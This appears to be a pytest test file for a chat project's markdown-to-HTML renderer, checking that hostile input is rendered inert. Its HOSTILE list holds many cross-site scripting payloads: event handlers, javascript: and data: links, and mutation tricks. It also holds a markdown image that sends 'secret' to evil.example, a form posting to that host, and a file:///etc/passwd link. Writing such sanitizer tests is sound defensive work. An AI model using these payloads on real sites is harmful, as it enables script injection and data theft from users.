"""Hostile texts as HTML: what a browser makes of it must do nothing and ask nobody."""

from html.parser import HTMLParser

import pytest

from chatwright.serving.markdown import ATTRIBUTES, TAGS, to_html


class Elements(HTMLParser):
    """Every element and attribute of a piece of HTML."""

    def __init__(self, text: str):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><style>*{background:url(//evil.example)}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=) [v](vbscript:x)",
    "<javascript:alert(1)> [x](<javascript:alert(1)>) [ref]\n\n[ref]: javascript:alert(1)",
    "[x](ftp://evil.example) [y](//evil.example/) [out](/sign-out) [file](file:///etc/passwd) [tel](tel:1)",
    "![secret](https://evil.example/?q=secret) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a\"b'<c>][i] [![x](//evil.example)](//evil.example)\n\n[i]: //evil.example",
    '```html" onmouseover="alert(1)\n<b>\n```\n\n```x y\'><script>\n```\n\n~~~" style="x\n~~~',
    "| a | b |\n|:-:|--:|\n| <b onclick=x>1</b> | 2 |",
    "</div></main><form action=//evil.example><input name=csrf><button>",
    "<!-- --><![CDATA[<b>]]><?php ?><!DOCTYPE html><base href=//evil.example><meta http-equiv=refresh content=0>",
    '[x](https://a.example "title\\" onclick=alert(1)") <p style="position:fixed" id=csrf class=overlay>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "&lt;script&gt; &#60;script&#62; \\<script\\> <scr<script>ipt>",
    "[" * 500 + "](" * 500 + "<" * 500 + "`" * 501 + "*_" * 500,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_inert(text):
    for tag, attributes in Elements(to_html(text)).found:
        assert tag in TAGS and tag not in ("script", "img", "style", "form", "iframe", "svg")
        own = {"a": {"target", "rel", "href"}}.get(tag, ATTRIBUTES.get(tag, set()))
        assert attributes.keys() <= own, attributes
        if tag == "a":
            assert attributes.get("href", "https:").split(":")[0] in ("http", "https", "mailto")
            assert attributes["target"] == "_blank" and "noopener" in attributes["rel"]
        if "class" in attributes:
            assert attributes["class"].startswith("language-") and not set(attributes["class"]) & set("\"'<> =")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_list_of_what_is_kept_is_enough_alone(text, monkeypatch):
    """Even if the parser let tags through."""
    monkeypatch.setitem(to_html.__globals__["parser"].options, "html", True)
    test_hostile_texts_are_inert(text)


def test_what_looks_like_a_tag_is_shown_as_it_was_written():
    assert Elements(to_html("use <b> & <script>x</script>")).text.strip() == "use <b> & <script>x</script>"


def test_pictures_are_told_and_not_fetched():
    assert to_html("![a <dog>](https://evil.example/x.png)") == "<p>a &lt;dog&gt;</p>\n"


def test_what_markdown_is_for():
    shown = to_html(
        "# One\n\n**bold** `code`\nnext\n\n3. three\n\n~~old~~\n\n```python\nx < 1\n```\n\n| a |\n|---|\n| b |"
    )
    for part in (
        "<h1>One</h1>", "<strong>bold</strong> <code>code</code><br>", '<ol start="3">', "<s>old</s>",
        '<pre><code class="language-python">x &lt; 1\n</code></pre>', "<td>b</td>",
    ):  # fmt: skip
        assert part in shown
    assert 'href="https://a.example/?b=c"' in to_html("<https://a.example/?b=c>")
